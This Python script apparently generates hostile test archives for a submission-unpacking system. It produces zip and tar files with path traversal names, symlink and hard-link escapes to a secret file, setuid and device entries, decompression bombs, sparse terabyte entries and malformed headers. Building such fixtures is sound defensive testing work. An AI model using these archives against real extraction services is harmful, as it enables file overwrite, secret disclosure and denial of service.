"""Makes a hand-in in this folder: an archive that attacks when it is unpacked. archive.py KIND name=NAME folder=FOLDER"""

import gzip
import io
import os
import stat
import struct
import sys
import tarfile
import zipfile
import zlib

KIND = sys.argv[1]
GIVEN = dict(word.split("=", 1) for word in sys.argv[2:])
NAME, FOLDER = GIVEN["name"], GIVEN["folder"]
with open(os.path.join(os.path.dirname(__file__), "stranger.py"), "rb") as file:
    BOT = file.read()


def zipped(*entries, kind=zipfile.ZIP_DEFLATED):
    """Makes a zip. Entries are names, or names with content and mode."""
    with zipfile.ZipFile(NAME + ".zip", "w", kind) as out:
        for entry in ("bot.py", *entries):
            name, data, mode = entry if isinstance(entry, tuple) else (entry, BOT, 0o100644)
            info = zipfile.ZipInfo(name)
            info.external_attr, info.compress_type, info.create_system = mode << 16, kind, 3
            out.writestr(info, data)


def tarred(*entries, mode="w", ending=".tar"):
    """Makes a tar. An entry has a `name`, and may have `data`, a false `size` and other attributes of a `TarInfo`."""
    with tarfile.open(NAME + ending, mode, format=tarfile.GNU_FORMAT) as out:
        for entry in ({"name": "bot.py"}, *entries):
            info = tarfile.TarInfo(entry["name"])
            data = entry.get("data", BOT) if entry.get("type", tarfile.REGTYPE) == tarfile.REGTYPE else b""
            info.size = len(data)
            if "size" in entry:
                out.fileobj.write(tarfile.TarInfo.tobuf(info)[:124] + b"\x80" + entry["size"].to_bytes(11, "big") + bytes(376))
                continue
            for key, value in entry.items():
                if key not in ("data", "name"):
                    setattr(info, key, value)
            out.addfile(info, io.BytesIO(data))


def raw_zip(name, change):
    zipped("a" * len(name))
    with open(NAME + ".zip", "r+b") as file:
        data = file.read().replace(b"a" * len(name), name)
        file.seek(0)
        file.write(change(data))


def overlapping():
    """Many entries share one stream of zeros, as in "A better zip bomb": 100 GiB in 150 kB."""
    body, zeros = zlib.compressobj(9, zlib.DEFLATED, -15), bytes(64 << 20)
    data, check = body.compress(zeros) + body.flush(), zlib.crc32(zeros)
    header = struct.pack("<IHHHHHIIIHH", 0x04034B50, 20, 0, 8, 0, 0, check, len(data), 64 << 20, 1, 0) + b"x" + data
    central = b"".join(
        struct.pack("<IHHHHHHIIIHHHHHII", 0x02014B50, 20, 20, 0, 8, 0, 0, check, len(data), 64 << 20, 5, 0, 0, 0, 0, 0, 0) + b"%05d" % n
        for n in range(1600)
    )
    with open(NAME + ".zip", "wb") as file:
        file.write(header + central + struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, 1600, 1600, len(central), len(header), 0))


def lies_about_sizes():
    zipped(("big", bytes(3 << 20), 0o100644))
    with open(NAME + ".zip", "r+b") as file:
        data = file.read().replace(struct.pack("<I", 3 << 20), struct.pack("<I", 10))
        file.seek(0)
        file.write(data)


def packed(header, length, end):
    """A tar with one long entry, which repeats the same piece of a compressed file."""
    piece = 16 << 20
    with open(NAME + ".tar.gz", "wb") as file:
        file.write(gzip.compress(header.tobuf()) + gzip.compress(b"x" * piece) * (length // piece) + gzip.compress(end))


def endless_name():
    header = tarfile.TarInfo("././@LongLink")
    header.type, header.size = tarfile.GNUTYPE_LONGNAME, 320 << 20
    packed(header, header.size, tarfile.TarInfo("bot.py").tobuf() + bytes(1024))


def bomb():
    header = tarfile.TarInfo("data")
    header.size = 2 << 30
    packed(header, header.size, bytes(1024))


def hollow():
    """A sparse file of GNU tar with a size of a terabyte."""
    info = tarfile.TarInfo("hole")
    info.type, info.size = tarfile.GNUTYPE_SPARSE, 0
    block = bytearray(info.tobuf(format=tarfile.GNU_FORMAT))
    block[483:495] = b"\x80" + (1 << 40).to_bytes(11, "big")
    block[148:156] = b" " * 8
    block[148:156] = b"%06o\0 " % sum(block)
    with open(NAME + ".tar", "wb") as file:
        file.write(block + bytes(1024))


def longer_path():
    """A pax header that gives a harmless entry another path."""
    with tarfile.open(NAME + ".tar", "w", format=tarfile.PAX_FORMAT) as out:
        info = tarfile.TarInfo("bot.py")
        info.size, info.pax_headers = len(BOT), {"path": "../../attack-pax"}
        out.addfile(info, io.BytesIO(BOT))


def cut():
    zipped("more.py")
    os.truncate(NAME + ".zip", os.path.getsize(NAME + ".zip") // 2)


def encrypted():
    zipped()
    with open(NAME + ".zip", "r+b") as file:
        data = bytearray(file.read())
        data[6] |= 1
        at = data.index(b"PK\x01\x02")
        data[at + 8] |= 1
        file.seek(0)
        file.write(data)


LINK = (stat.S_IFLNK | 0o777)
DEEP = [f"{n}/" + "d/" * 500 + "f" for n in range(50)]
KINDS = {
    "slip": lambda: zipped(f"../attack-{NAME}"),
    "slip-deep": lambda: zipped(f"a/b/../../../../attack-{NAME}"),
    "slip-backslash": lambda: zipped(f"..\\attack-{NAME}"),
    "absolute": lambda: zipped(f"{FOLDER}/attack-{NAME}"),
    "drive": lambda: zipped("C:\\attack.py"),
    "network-path": lambda: zipped("//server/attack.py"),
    "link-out": lambda: zipped(("data", (FOLDER + "/secret").encode(), LINK)),
    "link-root": lambda: zipped(("data", b"/", LINK)),
    "link-then-file": lambda: zipped(("data", FOLDER.encode(), LINK), f"data/attack-{NAME}"),
    "bot-is-link": lambda: zipped(("main.py", (FOLDER + "/secret").encode(), LINK)),
    "device": lambda: zipped(("data", b"", stat.S_IFCHR | 0o666)),
    "set-user-id": lambda: zipped(("data", BOT, 0o104755)),
    "closed": lambda: zipped(("data", BOT, 0o100000)),
    "many": lambda: zipped(*(f"f{n}" for n in range(25000)), kind=zipfile.ZIP_STORED),
    "deep": lambda: zipped(*DEEP),
    "one-deep": lambda: zipped("d/" * 3000 + "f"),
    "same-name": lambda: zipped("bot.py", "bot.py"),
    "equal-but-case": lambda: zipped("BOT.PY", "Bot.py"),
    "file-and-folder": lambda: zipped("data", "data/more"),
    "controls": lambda: zipped("\x1b[31m\r\n.py", "a\tb"),
    "reserved": lambda: zipped("CON", "NUL.py", "trailing.", "trailing "),
    "empty-name": lambda: zipped("/", "./", "."),
    "not-text": lambda: raw_zip(b"\xff\xfe\x80", lambda data: data),
    "zero-in-name": lambda: raw_zip(b"b\0t", lambda data: data),
    "overlapping": overlapping,
    "sizes": lies_about_sizes,
    "cut": cut,
    "encrypted": encrypted,
    "nested": lambda: (zipped(), zipped(("inner.zip", open(NAME + ".zip", "rb").read(), 0o100644))),
    "empty": lambda: open(NAME + ".zip", "wb").write(b"PK\x05\x06" + bytes(18)),
    "tar-slip": lambda: tarred({"name": f"../attack-{NAME}"}),
    "tar-absolute": lambda: tarred({"name": f"{FOLDER}/attack-{NAME}"}),
    "tar-link": lambda: tarred({"name": "data", "type": tarfile.SYMTYPE, "linkname": FOLDER + "/secret"}),
    "tar-link-then-file": lambda: tarred({"name": "data", "type": tarfile.SYMTYPE, "linkname": FOLDER}, {"name": f"data/attack-{NAME}"}),
    "tar-hard-link": lambda: tarred({"name": "data", "type": tarfile.LNKTYPE, "linkname": FOLDER + "/secret"}),
    "tar-device": lambda: tarred({"name": "data", "type": tarfile.CHRTYPE, "devmajor": 1, "devminor": 1}),
    "tar-pipe": lambda: tarred({"name": "data", "type": tarfile.FIFOTYPE}),
    "tar-set-user-id": lambda: tarred({"name": "data", "mode": 0o6755}),
    "tar-closed": lambda: tarred({"name": "data", "type": tarfile.DIRTYPE, "mode": 0}, {"name": "data/more"}),
    "tar-owner": lambda: tarred({"name": "data", "uid": 0, "gid": 0, "uname": "root"}),
    "tar-size": lambda: tarred({"name": "data", "size": 1 << 40}),
    "tar-bomb": bomb,
    "tar-hole": hollow,
    "tar-path": longer_path,
    "tar-endless-name": endless_name,
}
KINDS[KIND]()
